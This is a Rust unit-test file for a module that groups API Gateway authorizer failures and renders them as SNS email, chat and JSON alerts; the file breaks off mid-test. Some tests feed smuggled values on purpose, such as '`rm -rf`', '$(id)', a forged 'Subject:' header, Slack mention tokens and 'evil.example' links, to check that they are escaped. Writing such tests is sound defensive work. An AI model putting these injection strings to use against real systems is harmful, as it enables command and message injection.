//! Unit tests of `alert`, beside it so its source stays readable.

use super::*;
use crate::alerts::group::*;
use crate::model::finding::Finding;
use crate::model::finding::FindingText;

fn finding(cause: Cause, group: &str, id: &str, ts: i64) -> Finding {
    let mut f = Finding::new(
        cause,
        FindingText {
            request_id: Some(id),
            time: Some(&format!("t{ts}")),
            error: "AUTHORIZER text",
            route: Some("GET /orders"),
            api_id: Some("a1b2c3"),
            stage: Some("prod"),
            account_id: Some("123456789012"),
            ..FindingText::default()
        },
    );
    f.status = Some(500);
    f.log_group = Some(group.into());
    f.timestamp = Some(ts);
    f
}

/// The same finding with some text fields changed.
fn with<'a>(f: &'a Finding, change: impl FnOnce(&mut FindingText<'a>)) -> Finding {
    let mut text = f.text();
    change(&mut text);
    let mut changed = Finding::new(f.cause, text);
    changed.status = f.status;
    changed.log_group = f.log_group.clone();
    changed.timestamp = f.timestamp;
    changed
}

/// A group none of whose lines was read by the stage's format is never alerted above a
/// warning, and says so in every rendering; one verified line keeps its cause's severity.
#[test]
fn unverified_findings_are_at_most_a_warning_and_say_so() {
    let mut unverified = finding(Cause::MissingInvokePermission, "/aws/api/prod", "r1", 1);
    unverified.verified = false;
    let verified = finding(Cause::MissingInvokePermission, "/aws/api/prod", "r2", 2);
    for (findings, severity, said) in [
        (vec![unverified.clone()], "warning", Some("1 / 1")),
        (
            vec![unverified.clone(), unverified.clone()],
            "warning",
            Some("2 / 2"),
        ),
        (
            vec![unverified.clone(), verified.clone()],
            "critical",
            Some("1 / 2"),
        ),
        (vec![verified.clone()], "critical", None),
    ] {
        let groups = group(&findings, 5);
        let alert = render(&groups[0], &config());
        assert_eq!(alert.attributes.severity, severity, "{said:?}");
        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
        let count = findings.iter().filter(|f| !f.verified).count();
        assert_eq!(machine["unverified_requests"], count, "{said:?}");
        match said {
            Some(said) => {
                assert!(
                    alert.email.contains(&format!("Unverified: {said}")),
                    "{}",
                    alert.email
                );
                assert!(
                    alert.chat.contains(&format!("Unverified:* {said}")),
                    "{}",
                    alert.chat
                );
            }
            None => assert!(!alert.email.contains("Unverified"), "{}", alert.email),
        }
    }
}

fn config() -> Config {
    Config {
        label: Some("prod".into()),
        region: Some("eu-west-1".into()),
        max_samples: 2,
        ..Config::default()
    }
}

#[test]
fn groups_by_log_group_and_cause() {
    let findings = vec![
        finding(Cause::MissingInvokePermission, "/a", "r1", 3),
        finding(Cause::MissingInvokePermission, "/a", "r2", 1),
        finding(Cause::MissingInvokePermission, "/a", "r3", 5),
        finding(Cause::InvalidResponseFormat, "/a", "r4", 2),
        finding(Cause::MissingInvokePermission, "/b", "r5", 2),
    ];
    let groups = group(&findings, 2);
    assert_eq!(groups.len(), 3);
    let a = &groups[0];
    assert_eq!(
        (a.cause, a.log_group.as_deref(), a.count),
        (Cause::MissingInvokePermission, Some("/a"), 3)
    );
    assert_eq!(a.sample_request_ids, ["r1", "r2"]);
    assert_eq!(a.first_seen.as_deref(), Some("t1"));
    assert_eq!(a.last_seen.as_deref(), Some("t5"));
    assert_eq!(a.routes, ["GET /orders"]);
    assert_eq!(groups[1].log_group.as_deref(), Some("/b"));
    assert_eq!(groups[2].cause, Cause::InvalidResponseFormat);
}

#[test]
fn renders_three_bodies() {
    let groups = group(
        &[finding(
            Cause::MissingInvokePermission,
            "/aws/api/prod",
            "r1",
            1,
        )],
        5,
    );
    let alert = render(&groups[0], &config());
    assert_eq!(
        alert.subject,
        "[prod] API authorizer misconfigured: missing invoke permission (1x)"
    );
    assert_eq!(alert.attributes.cause, "missing_invoke_permission");
    assert_eq!(alert.attributes.severity, "critical");
    assert!(alert.email.contains("aws lambda add-permission"));
    assert!(
        alert.email.contains(
            "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3/authorizers/AUTHORIZER_ID"
        )
    );
    assert!(alert.email.contains("log-group/$252Faws$252Fapi$252Fprod"));
    let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
    assert_eq!(chat["version"], "1.0");
    assert_eq!(chat["source"], "custom");
    assert_eq!(chat["content"]["textType"], "client-markdown");
    assert!(chat["content"]["nextSteps"].as_array().unwrap().len() >= 2);
    let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
    assert_eq!(machine["cause"], "missing_invoke_permission");
    assert_eq!(machine["count"], 1);
    let message: serde_json::Value = serde_json::from_str(&alert.message()).unwrap();
    for key in ["default", "email", "https", "sqs", "lambda"] {
        assert!(message[key].is_string(), "{key}");
    }
}

/// The statuses as the lines logged them, counted, with a noun that agrees with its number,
/// in every body; never a status no line logged.
#[test]
fn alerts_state_the_statuses_as_logged() {
    let five_hundreds: Vec<Option<u16>> = (500..520).map(Some).collect();
    let cases: [(&[Option<u16>], &str, &str); 8] = [
        (
            &[Some(500)],
            "1 request failed with HTTP 500",
            "1 件のリクエストが HTTP 500 で失敗",
        ),
        (
            &[Some(503)],
            "1 request failed with HTTP 503",
            "1 件のリクエストが HTTP 503 で失敗",
        ),
        (
            &[Some(503), Some(503)],
            "2 requests failed with HTTP 503",
            "2 件のリクエストが HTTP 503 で失敗",
        ),
        (
            &[Some(503), Some(500), Some(500)],
            "3 requests failed: 2 with HTTP 500, 1 with HTTP 503",
            "3 件のリクエストが失敗: HTTP 500 が 2 件、HTTP 503 が 1 件",
        ),
        (
            &[None],
            "1 request failed, status not logged",
            "1 件のリクエストが失敗 (ステータス記録なし)",
        ),
        (
            &[None, None],
            "2 requests failed, status not logged",
            "2 件のリクエストが失敗 (ステータス記録なし)",
        ),
        (
            &[None, Some(401), Some(500)],
            "3 requests failed: 1 with HTTP 401, 1 with HTTP 500, 1 with status not logged",
            "3 件のリクエストが失敗: HTTP 401 が 1 件、HTTP 500 が 1 件、ステータス記録なしが 1 件",
        ),
        (
            &five_hundreds,
            "20 requests failed: 1 with HTTP 500, 1 with HTTP 501, 1 with HTTP 502, 1 with HTTP 503, 1 with HTTP 504, 1 with HTTP 505, 1 with HTTP 506, 1 with HTTP 507, 1 with HTTP 508, 1 with HTTP 509, 10 with 10 other statuses\n",
            "その他 10 種類のステータスが 10 件",
        ),
    ];
    for (statuses, en, ja) in cases {
        let findings: Vec<Finding> = statuses
            .iter()
            .enumerate()
            .map(|(i, status)| {
                let mut f = finding(Cause::Unknown, "/g", &format!("r{i}"), 1);
                f.status = *status;
                f
            })
            .collect();
        let g = group(&findings, 5).remove(0);
        let alert = render(&g, &config());
        assert!(alert.email.contains(en), "{en}\n{}", alert.email);
        let description = chat(&alert)["content"]["description"].to_string();
        assert!(description.contains(en.trim_end()), "{description}");
        let logged: Vec<u16> = statuses.iter().flatten().copied().collect();
        if !logged.contains(&500) {
            assert!(!alert.email.contains("HTTP 500"), "{}", alert.email);
            assert!(!description.contains("HTTP 500"), "{description}");
        }
        // Programs get every status, counted, adding up to the count.
        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
        let shown = machine["statuses"].as_array().unwrap();
        let other = machine["other_statuses"]["requests"].as_u64().unwrap_or(0);
        let sum: u64 = shown.iter().map(|s| s["requests"].as_u64().unwrap()).sum();
        assert_eq!(sum + other, statuses.len() as u64, "{en}");
        assert_eq!(machine["count"], statuses.len());
        let japanese = Config {
            language: Language::Ja,
            ..config()
        };
        let alert = render(&g, &japanese);
        assert!(alert.email.contains(ja), "{ja}\n{}", alert.email);
    }
    // What SNS refuses makes the message smaller, never the counts wrong.
    let mut g = group(&[finding(Cause::Unknown, "/g", "r", 1)], 5).remove(0);
    g.statuses = (0..=u16::MAX)
        .map(|s| StatusCount {
            status: Some(s),
            requests: 1,
        })
        .collect();
    g.count = g.statuses.len();
    let alert = render(&g, &config());
    assert!(alert.publish_bytes() < MAX_MESSAGE_BYTES);
    assert!(
        alert
            .email
            .contains("65536 requests failed: 1 with HTTP 0, "),
        "{}",
        alert.email
    );
    assert!(
        alert.email.contains("65526 with 65526 other statuses"),
        "{}",
        alert.email
    );
}

/// Groups of `n` distinct APIs in `log_groups` log groups, two lines each.
fn many_groups(n: usize, log_groups: usize) -> Vec<Group> {
    let findings: Vec<Finding> = (0..n)
        .flat_map(|i| {
            let api = format!("{i:010}");
            let group = format!("/aws/api/{}", i % log_groups);
            let cause = if i % 2 == 0 {
                Cause::MissingInvokePermission
            } else {
                Cause::AuthorizerTimeout
            };
            let f = with(&finding(cause, &group, "r", 1), |t| t.api_id = Some(&api));
            [f.clone(), f]
        })
        .collect();
    group(&findings, 5)
}

/// Past MAX_ALERTS groups, one more alert tells how many problems and lines were left out,
/// of which causes, for which APIs and log groups; at or below it, there is none.
#[test]
fn the_groups_past_the_cap_are_summarised_in_one_alert() {
    let cap = MAX_ALERTS;
    // Groups come in the order of causes: the missing permissions first, then the timeouts;
    // a summary's severity is its most severe problem's.
    for (n, log_groups, summary) in [
        (0, 1, None),
        (1, 1, None),
        (cap, 3, None),
        (
            cap + 1,
            1,
            Some((
                "[prod] API authorizer alerts capped: 1 more problem summarised",
                "high",
            )),
        ),
        (
            cap + 30,
            12,
            Some((
                "[prod] API authorizer alerts capped: 30 more problems summarised",
                "critical",
            )),
        ),
    ] {
        let groups = many_groups(n, log_groups);
        assert_eq!(groups.len(), n);
        let alerts = render_all(&groups, &config());
        assert_eq!(
            alerts.len(),
            n.min(cap) + usize::from(summary.is_some()),
            "{n}"
        );
        let Some((subject, severity)) = summary else {
            continue;
        };
        let last = alerts.last().unwrap();
        assert_eq!(last.subject, subject);
        assert_eq!(last.attributes.severity, severity);
        assert_subject(&last.subject, None);
        assert_publishable(last);
        assert_shown_safely(last);
        assert_eq!(last.attributes.cause, OVERFLOW_CAUSE_CODE);
        let o = overflow(&groups[cap..]).unwrap();
        let left = n - cap;
        assert_eq!((o.problems, o.lines), (left, 2 * left));
        let by_cause: usize = o.causes.iter().map(|c| c.lines).sum();
        assert_eq!(by_cause, o.lines);
        assert_eq!(o.api_ids.len() + o.more_apis, left);
        assert_eq!(o.api_ids.len(), left.min(OVERFLOW_NAMED));
        let machine: serde_json::Value = serde_json::from_str(&last.machine).unwrap();
        assert_eq!(machine["problems"], left);
        assert_eq!(machine["lines"], 2 * left);
        assert_eq!(machine["max_alerts"], cap);
        assert_eq!(machine["api_ids"][0], o.api_ids[0].as_str());
        let chat = chat(last);
        assert!(
            chat["content"]["description"]
                .as_str()
                .unwrap()
                .contains(&problems_and_lines(left, 2 * left, Language::En)),
            "{chat}"
        );
    }
    // Plain grammar at one, and the names from the log escaped like any alert's.
    let one = many_groups(cap + 1, 1);
    let mut hostile = one.clone();
    hostile[cap].log_group = Some("/g\u{202e}<!channel>\n".to_owned());
    let alert = render_all(&hostile, &config()).pop().unwrap();
    assert!(
        alert.email.contains("Left out: 1 problem, 2 lines"),
        "{}",
        alert.email
    );
    assert_shown_safely(&alert);
    assert_publishable(&alert);
    let ja = Config {
        language: Language::Ja,
        ..config()
    };
    let alert = render_all(&one, &ja).pop().unwrap();
    assert!(
        alert.email.contains("省略: 問題 1 件、行 2 件"),
        "{}",
        alert.email
    );
}

/// Counts in sentences take the noun and verb their number needs.
#[test]
fn counts_agree_with_their_words() {
    let suppressed = |failed_requests| Suppressed {
        failed_requests,
        batches: 1,
        ..Suppressed::default()
    };
    let cases = [
        (
            suppressed_text(&suppressed(1), Language::En),
            "1 more failed request was not alerted on (flood control), in batches: 1",
        ),
        (
            suppressed_text(&suppressed(297), Language::En),
            "297 more failed requests were not alerted on (flood control), in batches: 1",
        ),
    ];
    for (got, want) in cases {
        assert_eq!(got, want);
    }
    let drift = |with_token| Drift {
        with_token,
        format: String::new(),
    };
    let cases = [
        (
            1,
            1,
            "1 / 1 line carrying the token does not follow the format",
        ),
        (
            1,
            3,
            "1 / 3 lines carrying the token does not follow the format",
        ),
        (
            2,
            3,
            "2 / 3 lines carrying the token do not follow the format",
        ),
    ];
    for (count, with_token, want) in cases {
        assert_eq!(
            unmatched_text(count, &drift(with_token), Language::En),
            want
        );
    }
}

#[test]
fn japanese_keeps_an_ascii_subject() {
    let groups = group(&[finding(Cause::AuthorizerTimeout, "/g", "r", 1)], 5);
    let cfg = Config {
        language: Language::Ja,
        ..config()
    };
    let alert = render(&groups[0], &cfg);
    assert!(alert.subject.is_ascii());
    assert!(alert.email.contains("タイムアウト"));
}

/// SNS's subject rules, and the count at the end.
fn assert_subject(s: &str, count: Option<usize>) {
    assert!(s.len() < 100, "{} chars: {s}", s.len());
    assert!(s.bytes().all(|b| (0x20..0x7f).contains(&b)), "{s:?}");
    assert!(s.starts_with(['[', 'A']), "{s}");
    if let Some(n) = count {
        assert!(s.ends_with(&format!(" ({n}x)")), "{s}");
    }
}

#[test]
fn subject_keeps_the_count_and_shortens_the_label_first() {
    let max_label = "L".repeat(40);
    let long_label = "prod-eu-west-1-orders-service-blue-green-canary-".repeat(3);
    let cases: [(Option<&str>, usize, &str); 9] = [
        (
            None,
            2,
            "API authorizer misconfigured: missing invoke permission (2x)",
        ),
        (
            Some("prod"),
            2,
            "[prod] API authorizer misconfigured: missing invoke permission (2x)",
        ),
        (
            Some(&max_label),
            2,
            "[LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL] API authorizer misconfigured: missing invoke permission (2x)",
        ),
        (
            Some(&max_label),
            usize::MAX,
            "[LLLLLLLLLLLLLLLLL] API authorizer misconfigured: missing invoke permission (18446744073709551615x)",
        ),
        (
            Some(&long_label),
            123,
            "[prod-eu-west-1-orders-service-blue] API authorizer misconfigured: missing invoke permission (123x)",
        ),
        (
            Some(" \u{2028}é\n "),
            1,
            "[?] API authorizer misconfigured: missing invoke permission (1x)",
        ),
        (
            Some("   "),
            1,
            "API authorizer misconfigured: missing invoke permission (1x)",
        ),
        (
            Some("a]\r\nSubject: fake"),
            1,
            "[a]??Subject: fake] API authorizer misconfigured: missing invoke permission (1x)",
        ),
        (
            Some(""),
            usize::MAX,
            "API authorizer misconfigured: missing invoke permission (18446744073709551615x)",
        ),
    ];
    let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
    for (label, count, want) in cases {
        g.count = count;
        let s = subject(&g, label);
        assert_eq!(s, want, "{label:?}");
        assert_subject(&s, Some(count));
    }
    // Every cause, the largest label a label can be, the largest count.
    for cause in Cause::ALL {
        g.cause = cause;
        g.count = usize::MAX;
        for label in [None, Some(max_label.as_str()), Some(long_label.as_str())] {
            let s = subject(&g, label);
            assert_subject(&s, Some(usize::MAX));
            assert!(s.contains(cause.subject_words()), "{s}");
        }
    }
}

#[test]
fn the_words_give_way_only_to_the_count() {
    let s = fit_subject(Some("prod"), &"w".repeat(150), "", " (7x)");
    assert_subject(&s, Some(7));
    assert!(s.starts_with("[prod] www"), "{s}");
    let s = fit_subject(Some(&"L".repeat(200)), &"w".repeat(150), "", " (7x)");
    assert!(s.starts_with("[LLLLLLLL] www"), "{s}");
    assert_subject(&s, Some(7));
}

#[test]
fn recovered_subject_within_sns_rules() {
    for label in [
        None,
        Some("prod".to_owned()),
        Some("L".repeat(40)),
        Some("x\u{2028}".repeat(100)),
    ] {
        for cause in Cause::ALL {
            let q = quiet(cause, "log:/g", &[]);
            let cfg = Config {
                label: label.clone(),
                ..config()
            };
            let alert = render_recovered(&q, &cfg);
            assert_subject(&alert.subject, None);
            assert!(
                alert.subject.ends_with(cause.subject_words()),
                "{}",
                alert.subject
            );
        }
    }
}

fn quiet(cause: Cause, scope: &str, ids: &[String]) -> Quiet {
    Quiet {
        key: scope.to_owned(),
        scope: scope.to_owned(),
        cause,
        last_seen: 1_700_000_000,
        suppressed: Suppressed {
            failed_requests: 5,
            batches: 2,
            window_start: 1_700_000_000,
            last_suppressed: 1_700_000_100,
            sample_request_ids: ids.to_vec(),
        },
        by_check: false,
    }
}

#[test]
fn oversized_groups_are_trimmed_not_cut() {
    let mut findings = Vec::new();
    for i in 0..100 {
        let f = finding(Cause::Unknown, "/g", &format!("{i:0>90}"), i);
        let (error, route) = (
            format!("{i} {}", "e".repeat(1_000_000)),
            format!("GET /{i}/{}", "r".repeat(100_000)),
        );
        findings.push(with(&f, |t| {
            t.error = &error;
            t.route = Some(&route);
        }));
    }
    let groups = group(&findings, 100);
    let alert = render(&groups[0], &config());
    let message = alert.message();
    assert!(message.len() <= MAX_MESSAGE_BYTES, "{}", message.len());
    let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
    assert_eq!(machine["count"], 100);
    assert!(!machine["sample_request_ids"].as_array().unwrap().is_empty());
}

#[test]
fn hostile_text_is_escaped_for_chat() {
    let f = with(&finding(Cause::Unknown, "/g", "r", 1), |t| {
        t.error = "<!channel> *boom* `x` <http://evil|click> \x1b[31m";
        t.api_id = Some("`rm -rf`");
    });
    let alert = render(&group(&[f], 5)[0], &config());
    let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
    let d = chat["content"]["description"].as_str().unwrap();
    assert!(
        !d.contains("<!channel>") && !d.contains("<http://evil"),
        "{d}"
    );
    assert!(
        d.contains("`&lt;!channel&gt; *boom* 'x' &lt;http://evil|click&gt; \\u{1b}[31m`"),
        "{d}"
    );
    assert!(!alert.email.contains('\x1b'));
    assert!(
        !alert.email.contains("rm -rf"),
        "untrusted api id kept out of commands"
    );
}

fn chat(alert: &Alert) -> serde_json::Value {
    serde_json::from_str(&alert.chat).unwrap()
}

#[test]
fn one_problem_keeps_one_thread_across_batches_and_its_recovery() {
    let long_group = format!("/aws/vendedlogs/{}", "g".repeat(400));
    for (log_group, api) in [
        ("/aws/apigw/prod", Some("a1b2c3d4e5")),
        ("/aws/apigw/prod", None),
        (long_group.as_str(), None),
    ] {
        let batch = |ids: &[&str], error: &str| {
            let findings: Vec<Finding> = ids
                .iter()
                .enumerate()
                .map(|(i, id)| {
                    with(
                        &finding(Cause::MissingInvokePermission, log_group, id, i as i64),
                        |t| {
                            t.api_id = api;
                            t.error = error;
                        },
                    )
                })
                .collect();
            render(&group(&findings, 5)[0], &config())
        };
        let first = chat(&batch(&["r1"], "short"));
        // Another batch: more requests, and errors so long the message is trimmed.
        let huge = "e".repeat(300_000);
        let second = chat(&batch(&["r2", "r3", "r4"], &huge));
        let thread = first["metadata"]["threadId"].as_str().unwrap();
        assert_eq!(
            second["metadata"]["threadId"], thread,
            "{log_group} {api:?}"
        );
        assert!(thread.len() <= MAX_THREAD_BYTES, "{thread}");
        assert_ne!(
            first["id"], second["id"],
            "each notification has its own id"
        );
        assert_eq!(
            chat(&batch(&["r1"], "short"))["id"],
            first["id"],
            "the same batch again has the same id"
        );
        let scope = match api {
            Some(api) => format!("api:123456789012:{api}"),
            None => format!("log:123456789012:{log_group}"),
        };
        let recovered = render_recovered(
            &quiet(Cause::MissingInvokePermission, &scope, &[]),
            &config(),
        );
        assert_eq!(chat(&recovered)["metadata"]["threadId"], thread);
        // Another cause of the same API or log group, from either log: the same thread.
        let other = chat(&render(
            &group(
                &[with(&finding(Cause::Unknown, log_group, "r9", 9), |t| {
                    t.api_id = api
                })],
                5,
            )[0],
            &config(),
        ));
        assert_eq!(
            other["metadata"]["threadId"], thread,
            "one thread, any cause"
        );
    }
}

#[test]
fn apis_sharing_a_log_group_each_keep_their_thread_whatever_the_order() {
    let line = |api: &'static str, id: &str, ts: i64| {
        with(
            &finding(Cause::MissingInvokePermission, "/shared", id, ts),
            |t| t.api_id = Some(api),
        )
    };
    let threads = |findings: &[Finding]| -> Vec<(Vec<String>, String)> {
        group(findings, 5)
            .iter()
            .map(|g| {
                let c = chat(&render(g, &config()));
                (
                    g.api_ids.clone(),
                    c["metadata"]["threadId"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    let ab = threads(&[line("aaaaaaaaaa", "r1", 1), line("bbbbbbbbbb", "r2", 2)]);
    let ba = threads(&[line("bbbbbbbbbb", "r3", 3), line("aaaaaaaaaa", "r4", 4)]);
    assert_eq!(ab, ba, "one group and one thread per API, in any order");
    assert_eq!(
        ab.iter().map(|(_, t)| t.as_str()).collect::<Vec<_>>(),
        ["api:123456789012:aaaaaaaaaa", "api:123456789012:bbbbbbbbbb"]
    );
}

#[test]
fn the_same_log_group_in_two_accounts_is_two_threads() {
    let in_account = |account: &'static str| {
        let f = with(&finding(Cause::Unknown, "/aws/apigw/prod", "r", 1), |t| {
            t.api_id = None;
            t.account_id = Some(account);
        });
        chat(&render(&group(&[f], 5)[0], &config()))["metadata"]["threadId"].clone()
    };
    assert_eq!(
        in_account("111122223333"),
        "log:111122223333:/aws/apigw/prod"
    );
    assert_ne!(in_account("111122223333"), in_account("444455556666"));
    // Its recovery, in the same thread, names the group and the account.
    let q = quiet(Cause::Unknown, "log:111122223333:/aws/apigw/prod", &[]);
    let note = render_recovered(&q, &config());
    assert_eq!(
        chat(&note)["metadata"]["threadId"],
        in_account("111122223333")
    );
    assert_eq!(
        note.attributes.log_group.as_deref(),
        Some("/aws/apigw/prod")
    );
    let api = render_recovered(
        &quiet(Cause::Unknown, "api:111122223333:a1b2c3d4e5", &[]),
        &config(),
    );
    assert_eq!(api.attributes.log_group.as_deref(), Some("a1b2c3d4e5"));
    assert!(
        api.email
            .contains("on API a1b2c3d4e5 (account 111122223333) since"),
        "{}",
        api.email
    );
    assert!(
        note.email
            .contains("on Log group /aws/apigw/prod (account 111122223333) since"),
        "{}",
        note.email
    );
}

#[test]
fn batches_without_request_ids_still_get_their_own_notification_id() {
    let one = |event: &'static str| {
        let f = with(&finding(Cause::Unknown, "/g", "r", 1), |t| {
            t.request_id = None;
            t.event_id = Some(event);
        });
        chat(&render(&group(&[f], 0)[0], &config()))["id"].clone()
    };
    assert_ne!(one("3790001"), one("3790002"));
    assert_eq!(one("3790001"), one("3790001"));
}

#[test]
fn long_keys_stay_apart_in_their_thread_ids() {
    let a = thread_id(&format!("log:/{}a#unknown", "x".repeat(300)));
    let b = thread_id(&format!("log:/{}b#unknown", "x".repeat(300)));
    assert_ne!(a, b);
    assert!(a.len() <= MAX_THREAD_BYTES && b.len() <= MAX_THREAD_BYTES);
    assert_ne!(
        thread_id("log:/caf\u{e9}#unknown"),
        thread_id("log:/caf\u{e8}#unknown")
    );
    assert!(thread_id("log:/caf\u{e9}#unknown").is_ascii());
    assert_eq!(thread_id("api:a1b2c3#unknown"), "api:a1b2c3#unknown");
}

#[test]
fn mentions_only_where_configured_and_never_from_log_text() {
    let hostile = with(
        &finding(Cause::MissingInvokePermission, "/g", "r", 1),
        |t| {
            t.error = "@here <!here> <!channel> <@U024BE7LH> <!subteam^SAZ94GDB8> @channel";
            t.route = Some("GET /<!everyone>");
        },
    );
    let groups = group(&[hostile], 5);
    let critical = &groups[0];
    let high = Group {
        cause: Cause::AuthorizerTimeout,
        ..critical.clone()
    };
    let mention: crate::config::Mention = "<!subteam^S0ONCALL1>".parse().unwrap();
    let with_mention = Config {
        mention: Some(mention.clone()),
        ..config()
    };
    // The only raw mention a chat notification can hold is the configured one.
    let raw_mentions = |alert: &Alert| -> Vec<String> {
        let c = chat(alert);
        let text = format!(
            "{} {} {}",
            c["content"]["title"], c["content"]["description"], c["content"]["nextSteps"]
        );
        text.match_indices("<!")
            .chain(text.match_indices("<@"))
            .map(|(i, _)| text[i..].chars().take_while(|c| *c != '>').collect())
            .collect()
    };
    assert_eq!(
        raw_mentions(&render(critical, &config())),
        Vec::<String>::new()
    );
    // Plain `@here` and `@channel` from the log stay inside code spans, which Slack shows as
    // text: every one is after an odd number of backticks on its line.
    let d = chat(&render(critical, &config()))["content"]["description"]
        .as_str()
        .unwrap()
        .to_owned();
    for word in ["@here", "@channel"] {
        for (at, _) in d.match_indices(word) {
            let line_start = d[..at].rfind('\n').map_or(0, |i| i + 1);
            let ticks = d[line_start..at].matches('`').count();
            assert!(ticks % 2 == 1, "{word} outside a code span: {d}");
        }
    }
    assert_eq!(
        raw_mentions(&render(critical, &with_mention)),
        vec!["<!subteam^S0ONCALL1".to_owned()]
    );
    assert!(
        chat(&render(critical, &with_mention))["content"]["description"]
            .as_str()
            .unwrap()
            .starts_with("<!subteam^S0ONCALL1>\n"),
        "the mention leads the notification"
    );
    assert_eq!(
        raw_mentions(&render(&high, &with_mention)),
        Vec::<String>::new(),
        "high is below the default critical"
    );
    let from_high = Config {
        mention_severity: Severity::High,
        ..with_mention.clone()
    };
    assert_eq!(raw_mentions(&render(&high, &from_high)).len(), 1);
    // Email and machine JSON never carry it.
    let alert = render(critical, &with_mention);
    assert!(!alert.email.contains("S0ONCALL1") && !alert.machine.contains("S0ONCALL1"));
    // A recovery is info: mentioned only when the threshold is info.
    let q = quiet(Cause::MissingInvokePermission, "log:/g", &[]);
    assert!(raw_mentions(&render_recovered(&q, &with_mention)).is_empty());
    let from_info = Config {
        mention_severity: Severity::Info,
        ..with_mention
    };
    assert_eq!(raw_mentions(&render_recovered(&q, &from_info)).len(), 1);
}

#[test]
fn configured_severities_reach_attributes_and_machine_json() {
    let g = &group(&[finding(Cause::AuthorizerTimeout, "/g", "r", 1)], 5)[0];
    assert_eq!(render(g, &config()).attributes.severity, "high");
    let cfg = Config {
        severities: vec![(Cause::AuthorizerTimeout, Severity::Critical)],
        ..config()
    };
    let alert = render(g, &cfg);
    assert_eq!(alert.attributes.severity, "critical");
    let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
    assert_eq!(machine["severity"], "critical");
}

#[test]
fn console_url_encodes_the_group() {
    assert_eq!(
        console_url(Some("us-east-1"), Some("/aws/x y")).unwrap(),
        "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups/log-group/$252Faws$252Fx$2520y"
    );
    assert_eq!(console_url(None, Some("/g")), None);
}

#[test]
fn console_url_needs_a_region_shape_and_a_real_group_length() {
    let cases = [
        (Some("eu-west-1;rm"), Some("/g")),
        (Some("eu-west-1/../evil.example"), Some("/g")),
        (Some("eu-west-1"), Some("")),
    ];
    for (region, group) in cases {
        assert_eq!(console_url(region, group), None, "{region:?}");
    }
    let long = "/g".repeat(300);
    assert_eq!(console_url(Some("eu-west-1"), Some(&long)), None);
    let hostile = "/a\u{2028}b<!channel>|x\"'`$(id)";
    let url = console_url(Some("us-gov-west-1"), Some(hostile)).unwrap();
    let encoded = url.rsplit_once("log-group/").unwrap().1;
    assert!(
        encoded
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"$._-".contains(&b)),
        "{url}"
    );
}

/// The commands an alert shows: the email's command section and the chat's code blocks.
fn shown_commands(alert: &Alert) -> Vec<String> {
    let mut out: Vec<String> = alert
        .email
        .lines()
        .skip_while(|l| !l.starts_with("Command:"))
        .skip(1)
        .take_while(|l| !l.is_empty())
        .map(str::to_owned)
        .collect();
    let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
    for step in chat["content"]["nextSteps"].as_array().unwrap() {
        if let Some((_, block)) = step.as_str().unwrap().split_once("```") {
            out.push(block.to_owned());
        }
    }
    out
}

#[test]
fn hostile_account_region_and_api_id_never_reach_a_command() {
    let base = finding(Cause::MissingInvokePermission, "/g", "r", 1);
    let good = "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3/authorizers/AUTHORIZER_ID";
    let hostile = crate::text::shape::HOSTILE
        .iter()
        .copied()
        .chain(["abcdefghijklmnopq", "99999999999999999999"]);
    for bad in hostile {
        // (field, finding, region, placeholder in the source ARN)
        let cases = [
            (
                "account id",
                with(&base, |t| t.account_id = Some(bad)),
                "eu-west-1",
                "arn:aws:execute-api:eu-west-1:ACCOUNT_ID:a1b2c3/authorizers/AUTHORIZER_ID",
            ),
            (
                "api id",
                with(&base, |t| t.api_id = Some(bad)),
                "eu-west-1",
                "arn:aws:execute-api:eu-west-1:123456789012:API_ID/authorizers/AUTHORIZER_ID",
            ),
            (
                "region",
                base.clone(),
                bad,
                "arn:aws:execute-api:REGION:123456789012:a1b2c3/authorizers/AUTHORIZER_ID --region REGION",
            ),
        ];
        for (what, f, region, want) in cases {
            let cfg = Config {
                region: Some(region.into()),
                ..config()
            };
            let alert = render(&group(&[f], 5)[0], &cfg);
            let commands = shown_commands(&alert);
            assert_eq!(commands.len(), 2, "{what}: {commands:?}");
            for cmd in &commands {
                assert!(cmd.contains(want), "{what} {bad:?}: {cmd}");
                assert!(!cmd.contains(good), "{what} {bad:?}: {cmd}");
                assert!(
                    !cmd.contains(bad) && !cmd.contains(&*visible(bad)),
                    "{what} {bad:?}: {cmd}"
                );
            }
            if what == "region" {
                assert!(!alert.email.contains("https://"), "{}", alert.email);
            }
        }
    }
}

/// An access log does not say which kind of API wrote it; the diagnosis does, and the remedy's
/// commands follow it.
#[test]
fn the_remedy_follows_the_kind_the_diagnosis_found() {
    let config = Config::default();
    let mut g = group(&[finding(Cause::InvalidResponseFormat, "/g", "r", 1)], 5).remove(0);
    let email = |g: &Group| render(g, &config).email;
    let unknown = email(&g);
    assert!(unknown.contains("apigatewayv2") && unknown.contains("--rest-api-id"));
    for (kind, has, lacks) in [
        (ApiKind::Rest, "--rest-api-id", "apigatewayv2"),
        (ApiKind::WebSocket, "apigatewayv2", "--rest-api-id"),
        (ApiKind::Http, "isAuthorized", "--rest-api-id"),
    ] {
        g.diagnosis = Some(Diagnosis::Checked {
            api_id: "a1b2c3".into(),
            api_kind: kind,
            authorizers: Vec::new(),
        });
        let text = email(&g);
        assert!(
            text.contains(has) && !text.contains(lacks),
            "{kind:?}: {text}"
        );
    }
}

#[test]
fn the_diagnosis_names_the_kind_of_api() {
    for (kind, text, chat) in [
        (
            ApiKind::Http,
            "Diagnosis (API a1b2c3, ",
            "• *Diagnosis* (API `a1b2c3`)",
        ),
        (
            ApiKind::Rest,
            "Diagnosis (REST API a1b2c3, ",
            "• *Diagnosis* (REST API `a1b2c3`)",
        ),
        (
            ApiKind::WebSocket,
            "Diagnosis (WebSocket API a1b2c3, ",
